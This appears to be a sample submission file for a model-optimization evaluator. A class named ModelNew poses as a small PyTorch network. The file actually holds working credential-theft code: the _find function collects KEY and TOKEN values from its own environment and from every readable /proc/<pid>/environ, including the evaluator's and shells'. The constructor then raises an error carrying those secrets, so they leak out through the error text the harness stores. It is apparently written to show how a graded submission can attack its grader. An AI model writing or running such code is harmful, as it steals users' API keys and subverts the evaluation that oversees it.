# A winner that looks for the user's API key wherever its process can read environments (its
# own, and every /proc/<pid>/environ it can open: the evaluator's, a shell's) and sends it back in
# the one text the parent stores: its error.
import os

import torch.nn as nn


def _find():
    found = [v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/environ", "rb") as f:
                    found += [x.split(b"=", 1)[1].decode() for x in f.read().split(b"\0") if b"KEY=" in x]
            except OSError:
                pass
    return sorted(set(found))


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.region = nn.Sequential(nn.Linear(128, 512), nn.GELU(), nn.Linear(512, 128))
        raise RuntimeError("found: " + " ".join(_find()))

    def forward(self, x):
        return self.region(x)
